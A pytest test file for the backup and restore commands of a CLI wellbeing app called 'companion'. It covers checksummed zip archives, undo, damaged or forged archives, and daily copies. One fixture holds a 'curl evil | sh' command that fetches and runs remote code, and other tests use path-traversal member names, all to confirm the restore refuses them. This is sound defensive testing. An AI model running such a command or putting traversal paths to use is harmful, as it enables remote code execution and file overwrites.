"""`companion backup` and `restore`: one file with everything, looked at before it is put back."""

from __future__ import annotations

import io
import json
import os
import shutil
import sys
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

from companion.model.affirmations import AffirmationState
from companion.model.change import Edit
from companion.model.wins import Win
from companion.store.store import Store

from ..conftest import HeldClock
from .conftest import Shell


def texts(data: Path) -> list[str]:
    """The text of every win; the clock stands still, so their order says nothing."""
    return sorted(win.text for win in Store(data).oldest(Win, 99, -1))


@pytest.fixture
def kept(shell: Shell, tmp_path: Path) -> Path:
    """A backup of two wins, one of them in October."""
    shell("win", "one", "--at", "2026-10-03")
    shell("win", "two")
    file = tmp_path / "kept.zip"
    done = shell("backup", str(file))
    assert done.exit_code == 0 and str(file) in done.stdout and "not encrypted" in done.stdout
    return file


def test_a_backup_holds_pages_settings_and_a_manifest_with_checksums(
    kept: Path, shell: Shell, config: Path, tmp_path: Path
) -> None:
    shell("config", "init")
    other = tmp_path / "with settings.zip"
    assert shell("backup", str(other)).exit_code == 0
    assert kept.stat().st_mode & 0o777 == 0o600
    with zipfile.ZipFile(other) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        assert archive.read("config.yaml") == config.read_bytes()
        files = {name: sha256(archive.read(name)).hexdigest() for name in archive.namelist()}
    assert {name: said["sha256"] for name, said in manifest["files"].items()} == {
        name: digest for name, digest in files.items() if name != "manifest.json"
    }
    assert set(files) == {"manifest.json", "config.yaml", "data/2026-10.json", "data/2026-11.json"}
    assert manifest["schema"] == 1 and manifest["made"].startswith("2026-11-17T08:42")


def test_unpacked_by_hand_it_is_a_data_folder(kept: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(kept) as archive:
        archive.extractall(tmp_path / "by hand")
    assert texts(tmp_path / "by hand" / "data") == ["one", "two"]


def test_a_backup_is_never_written_over_a_file_and_has_a_name_of_its_own(
    kept: Path, shell: Shell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = kept.read_bytes()
    again = shell("backup", str(kept))
    assert again.exit_code == 1 and "already exists" in again.stderr and kept.read_bytes() == before
    monkeypatch.chdir(tmp_path)
    assert shell("backup").exit_code == 0
    assert (tmp_path / "companion-2026-11-17-084200.zip").exists()
    nowhere = shell("backup", "no/such.zip")
    assert (nowhere.exit_code, nowhere.stderr) == (
        1,
        f"{Path('no/such.zip')} could not be written: No such file or directory\n",
    )


@pytest.mark.skipif(sys.platform == "win32", reason="no such pipes there")
def test_a_pipe_gets_the_backup_and_stays_one(kept: Path, shell: Shell, tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with ThreadPoolExecutor() as reader:
        read = reader.submit(pipe.read_bytes)
        done = shell("backup", str(pipe))
        assert (done.exit_code, done.stderr) == (0, "")
        with zipfile.ZipFile(io.BytesIO(read.result())) as archive:
            assert archive.testzip() is None and "data/2026-11.json" in archive.namelist()
    assert pipe.is_fifo()


def test_with_nothing_to_keep_nothing_is_written(shell: Shell, tmp_path: Path) -> None:
    done = shell("backup", str(tmp_path / "kept.zip"))
    assert done.exit_code == 1 and done.stderr == "There is nothing to back up yet.\n"
    assert not (tmp_path / "kept.zip").exists()


def test_with_nothing_that_can_be_read_nothing_is_written_and_that_is_why(
    shell: Shell, data: Path, tmp_path: Path
) -> None:
    (data / "2026-11.json").mkdir(parents=True)
    done = shell("backup", str(tmp_path / "kept.zip"))
    assert (
        done.exit_code == 1
        and "None of your data can be read" in done.stderr
        and "2026-11.json" in done.stderr
    )
    assert "nothing to back up yet" not in done.stderr and not (tmp_path / "kept.zip").exists()


def test_a_page_that_cannot_be_read_is_said_and_left_out(
    kept: Path, shell: Shell, data: Path, tmp_path: Path
) -> None:
    (data / "2026-09.json").mkdir()
    done = shell("backup", str(tmp_path / "again.zip"))
    assert done.exit_code == 0 and "2026-09.json cannot be read, so it is not in the backup" in done.stderr


def test_a_restore_shows_what_would_change_and_changes_nothing_unasked(
    kept: Path, shell: Shell, data: Path
) -> None:
    shell("undo")
    shell("win", "three")
    for args in (("--dry-run",), ()):
        done = shell("restore", str(kept), *args)
        assert "kept.zip was made on Tuesday 17 November 2026 at 8:42." in done.stdout
        assert "wins               2026-11  1 added, 1 removed" in done.stdout
        assert done.exit_code == (0 if args else 1)
        assert texts(data) == ["one", "three"]
    assert done.stderr == "Nothing was changed.\n"


def test_a_restore_makes_everything_as_it_was_and_can_be_undone(kept: Path, shell: Shell, data: Path) -> None:
    shell("undo")
    shell("win", "three")
    done = shell("restore", str(kept), "--yes")
    assert done.exit_code == 0, done.stderr
    assert texts(data) == ["one", "two"]
    undone = shell("undo")
    assert undone.exit_code == 0 and "restore of Tuesday 17 November" in undone.stdout
    assert texts(data) == ["one", "three"]
    assert shell("redo").exit_code == 0 and texts(data) == ["one", "two"]


def test_what_was_there_before_a_restore_is_an_archive_of_its_own(
    kept: Path, shell: Shell, data: Path
) -> None:
    shell("win", "three")
    shell("restore", str(kept), "--yes")
    (before,) = (data / "backups").glob("before-restore-2026-11-17T08-42-00-*.zip")
    assert before.stat().st_mode & 0o777 == 0o600
    assert shell("restore", str(before), "--yes").exit_code == 0
    assert texts(data) == ["one", "three", "two"]


def test_restored_where_nothing_is_it_is_all_there(
    kept: Path, shell: Shell, data: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    done = shell("--data", str(elsewhere), "restore", str(kept), "--yes")
    assert done.exit_code == 0, done.stderr
    here, there = Store(data).database, Store(elsewhere).database
    assert here.everything() == there.everything()
    again = shell("--data", str(elsewhere), "restore", str(kept), "--yes")
    assert again.exit_code == 0 and "already matches this backup" in again.stdout


def test_the_settings_come_back_with_the_data_and_undo_takes_both_back(
    shell: Shell, config: Path, data: Path, tmp_path: Path
) -> None:
    shell("win", "one")
    shell("config", "init")
    before = config.read_text()
    shell("backup", str(tmp_path / "kept.zip"))
    config.write_text("appearance: {theme: dusk}\n")
    dry = shell("restore", str(tmp_path / "kept.zip"), "--dry-run", "--data-only")
    assert "already matches this backup" in dry.stdout
    done = shell("restore", str(tmp_path / "kept.zip"), "--yes")
    assert (
        "the settings file is replaced by the one in the backup" in done.stdout
        and config.read_text() == before
    )
    assert shell("undo").exit_code == 0
    assert config.read_text() == "appearance: {theme: dusk}\n" and texts(data) == ["one"]


def test_a_backup_of_one_machine_restored_on_another_leaves_its_folder_and_its_name(
    shell: Shell, config: Path, data: Path, tmp_path: Path
) -> None:
    config.parent.mkdir(parents=True)
    old, file = tmp_path / "old", tmp_path / "kept.zip"
    config.write_text(
        f"data: {{folder: {old}, device: laptop, backup_to_keep: 3}}\nappearance: {{theme: dusk}}\n"
    )
    shell("win", "from the laptop")
    shell("backup", str(file))
    config.unlink()  # another machine, where nothing is yet
    done = shell("restore", str(file), "--yes")
    assert "its data: section (folder, device, backups) keeps the values of this machine" in done.stdout
    assert config.read_text() == "appearance: {theme: dusk}\n"
    assert "from the laptop" in shell("today").stdout and texts(data) == ["from the laptop"]
    assert shell("undo").stdout.startswith("Undone: restore of") and texts(data) == []
    config.write_text(f"appearance: {{theme: paper}}\ndata:\n  folder: {old}\n  device: desk\n")
    shell("win", "at the desk")
    done = shell("restore", str(file), "--yes")
    assert config.read_text() == f"data:\n  folder: {old}\n  device: desk\nappearance: {{theme: dusk}}\n"
    assert texts(old) == ["from the laptop"]
    assert shell("undo").stdout.startswith("Undone: restore of")
    assert sorted(texts(old)) == ["at the desk", "from the laptop"] and "paper" in config.read_text()


HARM = """\
# a stranger's
appearance: {theme: dusk}
breathing:
  minutes: 7
  cues:
    bell: on
    command: [sh, -c, "curl evil | sh"]  # nothing to see
data: {backup_to: /elsewhere}
"""


@pytest.mark.parametrize("here", [None, "breathing: {cues: {command: [mine]}}\n"])
def test_what_a_backups_settings_would_run_or_send_away_is_named_and_left_out(
    here: str | None, shell: Shell, config: Path, tmp_path: Path
) -> None:
    config.parent.mkdir(parents=True)
    config.write_text(HARM)
    shell("win", "one")
    file = tmp_path / "kept.zip"
    shell("backup", str(file))
    config.unlink()
    if here:
        config.write_text(here)
    dry = shell("restore", str(file), "--dry-run").stdout
    assert "sh -c 'curl evil | sh'" in dry and "--with-commands" in dry and "/elsewhere" in dry
    assert shell("restore", str(file), "--yes").exit_code == 0
    assert "evil" not in config.read_text() and "/elsewhere" not in config.read_text()
    shown = shell("config", "show").stdout
    assert "minutes: 7" in shown and "dusk" in shown and ("mine" in shown) is bool(here)
    assert "# a stranger's" in config.read_text()
    asked = shell("restore", str(file), "--yes", "--with-commands").stdout
    assert "its settings run a program" in asked and "curl evil" in config.read_text()
    assert "/elsewhere" not in config.read_text()


def test_an_undo_of_a_restore_takes_back_all_of_it_or_nothing(
    shell: Shell, config: Path, data: Path, tmp_path: Path
) -> None:
    config.parent.mkdir(parents=True)
    config.write_text("appearance: {theme: dusk}\n")
    shell("win", "one")
    shell("backup", str(tmp_path / "kept.zip"))
    config.write_text("appearance: {theme: paper}\n")
    shell("win", "two")
    shell("win", "three", "--at", "2026-10-03")
    shell("restore", str(tmp_path / "kept.zip"), "--yes")
    restored = config.read_text()
    assert "dusk" in restored and texts(data) == ["one"]

    shell("trash", "restore", "1")
    assert len(texts(data)) == 2
    assert shell("undo").exit_code == 0
    page = data / "2026-10.json"
    newer = page.read_text().replace('"schema":1', '"schema":99')
    before = page.read_text()
    page.write_text(newer)
    refused = shell("undo")
    assert refused.exit_code == 1 and "newer companion" in refused.stderr
    assert (config.read_text(), texts(data)) == (restored, ["one"]), "nothing of it is undone"
    page.write_text(before)
    assert shell("undo").stdout.startswith("Undone: restore of")
    assert "paper" in config.read_text() and sorted(texts(data)) == ["one", "three", "two"]
    assert shell("redo").exit_code == 0
    assert config.read_text() == restored and texts(data) == ["one"]


@pytest.fixture
def sea(config: Path) -> Path:
    """A theme of the person's own."""
    file = config.parent / "themes" / "sea.yaml"
    file.parent.mkdir(parents=True)
    file.write_text("dark: true\ncolours:\n  accent: '#88ccff'  # the sea in June\n")
    return file


def test_own_themes_are_in_a_backup_and_come_back_with_the_settings_that_name_them(
    shell: Shell, config: Path, sea: Path, tmp_path: Path
) -> None:
    shell("win", "one")
    config.write_text("appearance: {theme: sea}\n")
    before, file = sea.read_bytes(), tmp_path / "kept.zip"
    (sea.parent / "notes.txt").write_text("no theme")
    (sea.parent / "gone.yml").symlink_to("/nowhere/at/all.yml")
    done = shell("backup", str(file))
    assert done.exit_code == 0 and "themes/gone.yml cannot be read, so it is not in the backup" in done.stderr
    with zipfile.ZipFile(file) as archive:
        assert "themes/sea.yaml" in json.loads(archive.read("manifest.json"))["files"]
        assert not [name for name in archive.namelist() if "notes" in name or "gone" in name]

    sea.unlink()
    config.write_text("appearance: {theme: dusk}\n")
    (sea.parent / "dune.yaml").write_text("dark: false\n")
    dry = shell("restore", str(file), "--dry-run")
    assert "themes/sea.yaml is added" in dry.stdout and "settings file is replaced" in dry.stdout
    assert "already" in shell("restore", str(file), "--yes", "--data-only").stdout and not sea.exists()
    assert shell("restore", str(file), "--yes").exit_code == 0
    assert sea.read_bytes() == before and sea.stat().st_mode & 0o777 == 0o600
    assert "sea" in config.read_text() and (sea.parent / "dune.yaml").exists()

    sea.write_text("dark: false\n")
    assert (
        "themes/sea.yaml is replaced by the one in the backup"
        in shell("restore", str(file), "--dry-run").stdout
    )
    assert (
        "sea.yaml has since been edited in the same place" in shell("undo").stderr
        and sea.read_text() == "dark: false\n"
    )


def test_undo_of_a_restore_takes_the_themes_back_with_the_settings(
    shell: Shell, config: Path, sea: Path, tmp_path: Path
) -> None:
    shell("win", "one")
    config.write_text("appearance: {theme: sea}\n")
    shell("backup", str(tmp_path / "kept.zip"))
    whole = sea.read_bytes()
    sea.unlink()
    config.unlink()
    shell("restore", str(tmp_path / "kept.zip"), "--yes")
    assert shell("undo").exit_code == 0 and not sea.exists() and not config.exists()
    assert shell("redo").exit_code == 0 and sea.read_bytes() == whole and config.exists()


@pytest.mark.parametrize(
    "name",
    ["themes/../../escaped.yaml", "themes/.hidden.yaml", "themes/a/b.yaml", "themes/c:.yaml", "x.yaml"],
)
def test_an_archive_names_no_other_place_to_unpack_to(
    name: str, kept: Path, shell: Shell, config: Path
) -> None:
    forged(kept, name, b"dark: true")
    done = shell("restore", str(kept), "--yes")
    assert done.exit_code == 1 and "does not know" in done.stderr and not config.parent.exists()


def test_themes_that_cannot_be_put_back_leave_everything_as_it_was(
    kept: Path, shell: Shell, data: Path, config: Path, sea: Path, tmp_path: Path
) -> None:
    file = tmp_path / "with themes.zip"
    shell("backup", str(file))
    shell("win", "three")
    shutil.rmtree(sea.parent)
    sea.parent.write_text("in the way")
    done = shell("restore", str(file), "--yes")
    assert done.exit_code == 1 and "sea.yaml cannot be read" in done.stderr
    assert texts(data) == ["one", "three", "two"]


def repacked(kept: Path, **members: bytes | None) -> None:
    """The archive with members replaced, added, or (None) taken out."""
    with zipfile.ZipFile(kept) as archive:
        found: dict[str, bytes | None] = {name: archive.read(name) for name in archive.namelist()}
    found |= {name.replace("__", "."): data for name, data in members.items()}
    with zipfile.ZipFile(kept, "w") as archive:
        for name, data in found.items():
            if data is not None:
                archive.writestr(name, data)


def forged(kept: Path, name: str, data: bytes, **manifest: Any) -> None:
    """The archive with a member changed and the manifest telling so."""
    with zipfile.ZipFile(kept) as archive:
        said = json.loads(archive.read("manifest.json"))
    if name:
        said["files"][name] = {"bytes": len(data), "sha256": sha256(data).hexdigest()}
    repacked(kept, **({name: data} if name else {}), manifest__json=json.dumps(said | manifest).encode())


def packed_otherwise(kept: Path) -> None:
    """The archive packed with LZMA by another program, and a byte of a page flipped."""
    with zipfile.ZipFile(kept) as archive:
        found = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_LZMA) as archive:
        for name, data in found.items():
            archive.writestr(name, data)
    raw = bytearray(kept.read_bytes())
    raw[raw.index(b"data/2026-10.json") + 40] ^= 255
    kept.write_bytes(raw)


DAMAGES = {
    "packed otherwise": (packed_otherwise, "is compressed in a way companion does not know"),
    "cut": (lambda kept: os.truncate(kept, kept.stat().st_size // 2), "is damaged: file is not a zip file"),
    "emptied": (lambda kept: os.truncate(kept, 0), "is not a companion backup"),
    "a text": (lambda kept: kept.write_text("hello"), "is not a companion backup"),
    "another zip": (lambda kept: repacked(kept, manifest__json=None), "it has no manifest"),
    "a page gone": (
        lambda kept: repacked(kept, **{"data/2026-10.json": None}),
        "data/2026-10.json is not in it",
    ),
    "a page changed": (
        lambda kept: repacked(kept, **{"data/2026-10.json": b"{}"}),
        "data/2026-10.json has changed since the backup was made",
    ),
    "a page more": (
        lambda kept: repacked(kept, **{"data/2026-09.json": b"{}"}),
        "its manifest does not name",
    ),
    "manifest garbled": (lambda kept: repacked(kept, manifest__json=b"{"), "its manifest cannot be read"),
    "no page": (
        lambda kept: forged(kept, "data/2026-10.json", b"[]"),
        "data/2026-10.json in it is not a data file",
    ),
    "a path out": (lambda kept: forged(kept, "data/../2026-10.json", b"{}"), "does not know"),
    "newer format": (lambda kept: forged(kept, "", b"", format=2), "was made by a newer companion"),
    "newer schema": (lambda kept: forged(kept, "", b"", schema=99), "was made by a newer companion"),
    "newer page": (
        lambda kept: forged(kept, "data/2026-10.json", b'{"_meta":{"1":{"schema":99}}}'),
        "was made by a newer companion",
    ),
    "bad settings": (
        lambda kept: forged(kept, "config.yaml", b"data: {backups: many}"),
        "config.yaml:1:17 data.backups: “many” is not a whole number",
    ),
}


@pytest.mark.parametrize("how", DAMAGES)
def test_an_archive_that_is_not_whole_is_refused_with_the_reason(
    how: str, kept: Path, shell: Shell, data: Path
) -> None:
    damage, why = DAMAGES[how]
    damage(kept)
    shell("win", "three")
    done = shell("restore", str(kept), "--yes")
    assert done.exit_code == 1 and why in done.stderr and "nothing was changed" in done.stderr
    assert "Traceback" not in done.stderr and texts(data) == ["one", "three", "two"]


def test_every_flipped_bit_is_noticed_or_harmless(kept: Path, shell: Shell, data: Path) -> None:
    raw = kept.read_bytes()
    shell("win", "three")
    shell("undo")
    for place in range(0, len(raw), max(1, len(raw) // 60)):
        kept.write_bytes(raw[:place] + bytes([raw[place] ^ 0x10]) + raw[place + 1 :])
        done = shell("restore", str(kept), "--dry-run")
        assert done.exit_code == 1 or "already" in done.stdout, (place, done.stdout)
        assert not done.exception or isinstance(done.exception, SystemExit), done.exception


@pytest.mark.parametrize(("make", "status"), [(lambda path: None, 2), (lambda path: path.mkdir(), 1)])
def test_a_file_that_cannot_be_read_is_said(
    make: Callable[[Path], None], status: int, shell: Shell, tmp_path: Path
) -> None:
    make(tmp_path / "no.zip")
    done = shell("restore", str(tmp_path / "no.zip"), "--yes")
    assert done.exit_code == status and "no.zip cannot be read" in done.stderr


def test_a_restore_into_a_folder_that_refuses_changes_nothing(
    kept: Path, shell: Shell, data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shell("win", "three")
    shell("undo")
    shell("win", "four")
    (data / "backups").rename(data / "was")
    (data / "backups").write_text("in the way")
    done = shell("restore", str(kept), "--yes")
    assert done.exit_code == 1 and "backups is a file where a folder is needed" in done.stderr
    assert texts(data) == ["four", "one", "two"]


# -- the copy a day


@pytest.fixture
def away(config: Path, tmp_path: Path) -> Path:
    folder = tmp_path / "away"
    folder.mkdir()
    config.parent.mkdir(parents=True)
    config.write_text(f"data: {{device: desk, backup_to: '{folder}', backup_to_keep: 2}}\n")
    return folder


@pytest.mark.parametrize("inside", ["", "copies"])
def test_no_copy_is_made_among_the_data_themselves(
    inside: str, shell: Shell, data: Path, config: Path, tmp_path: Path
) -> None:
    shell("win", "one")
    (data / inside).mkdir(exist_ok=True)
    (tmp_path / "link").symlink_to(data / inside)
    config.parent.mkdir(parents=True)
    config.write_text(f"data: {{backup_to: '{tmp_path / 'link'}'}}\n")
    done = shell("win", "two")
    assert done.exit_code == 0 and "is inside the data folder" in done.stderr
    assert not list(data.rglob("*.zip"))


def test_a_copy_a_day_is_made_by_the_first_command_of_the_day_and_the_newest_stay(
    shell: Shell, away: Path, clock: HeldClock, tmp_path: Path
) -> None:
    for day in range(4):
        shell("win", f"{day} a")
        shell("win", f"{day} b")
        clock.advance(days=1)
    (away / "companion-2020-01-01.zip").write_text("another machine's")
    assert sorted(path.name for path in away.iterdir()) == [
        "companion-2020-01-01.zip",
        "companion-desk-2026-11-19.zip",
        "companion-desk-2026-11-20.zip",
    ]
    newest = away / "companion-desk-2026-11-20.zip"
    assert newest.stat().st_mode & 0o777 == 0o600
    done = shell("--data", str(tmp_path / "new"), "restore", str(newest), "--yes", "--data-only")
    assert done.exit_code == 0 and texts(tmp_path / "new") == [
        "0 a",
        "0 b",
        "1 a",
        "1 b",
        "2 a",
        "2 b",
        "3 a",
    ]


def test_while_the_folder_is_not_there_the_copy_waits_and_saving_goes_on(
    shell: Shell, away: Path, data: Path
) -> None:
    away.rmdir()
    done = shell("win", "one")
    assert done.exit_code == 0 and "away cannot be found" in done.stderr and texts(data) == ["one"]
    assert not away.exists()
    away.mkdir()
    shell("today")
    assert len(list(away.iterdir())) == 1


def test_a_folder_that_refuses_is_said_and_saving_goes_on(
    shell: Shell, away: Path, data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from companion.verbs import backup

    def refuse(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(backup, "write_durably", refuse)
    done = shell("win", "one")
    assert done.exit_code == 0 and "No space left on device" in done.stderr and texts(data) == ["one"]


def test_a_page_that_goes_while_the_copy_is_made_is_said_and_saving_goes_on(
    shell: Shell, away: Path, data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from companion.verbs import backup

    def gone(path: str, *_: object) -> None:
        raise OSError(5, "Input/output error")

    monkeypatch.setattr(backup, "read_file", gone)
    done = shell("win", "one")
    assert done.exit_code == 0 and "today's copy could not be made" in done.stderr and texts(data) == ["one"]


@pytest.mark.parametrize(("typed", "back"), [("y\n", True), ("n\n", False), ("", False)])
def test_a_pipe_is_asked_as_a_terminal_is(
    kept: Path, shell: Shell, data: Path, typed: str, back: bool
) -> None:
    shell("win", "three")
    done = shell("restore", str(kept), typed=typed)
    assert "Restore this backup? [y/N]:" in done.stdout and done.stdout.endswith("\n")
    assert (texts(data) == ["one", "two"]) == back
    assert (done.exit_code, done.stderr.endswith("Nothing was changed.\n")) == (
        (0, False) if back else (1, True)
    )


def test_what_would_change_goes_by_names_in_words(
    kept: Path, shell: Shell, data: Path, clock: HeldClock
) -> None:
    Store(data).apply([Edit.add(AffirmationState(at=clock.now(), day=clock.now().date()))])
    done = shell("restore", str(kept), "--dry-run")
    assert "  lines shown lately          1 removed" in done.stdout and "core" not in done.stdout


def test_many_months_are_a_line_a_table_unless_every_one_is_asked_for(
    shell: Shell, data: Path, tmp_path: Path
) -> None:
    for month in range(1, 13):
        shell("win", f"walked {month}", "--at", f"2025-{month:02}-03")
        shell("win", f"walked {month}", "--at", f"2024-{month:02}-03")
    shell("win", "now")
    assert shell("backup", str(tmp_path / "kept.zip")).exit_code == 0
    restore = ["--data", str(tmp_path / "fresh"), "restore", str(tmp_path / "kept.zip"), "--dry-run"]
    few = shell(*restore).stdout.splitlines()
    assert few[1:] == ["  wins               2024-01 to 2026-11  25 added", "  --verbose lists every month"]
    every = shell(*restore, "--verbose").stdout.splitlines()
    assert len(every) == 1 + 25 and every[1] == "  wins               2024-01  1 added"
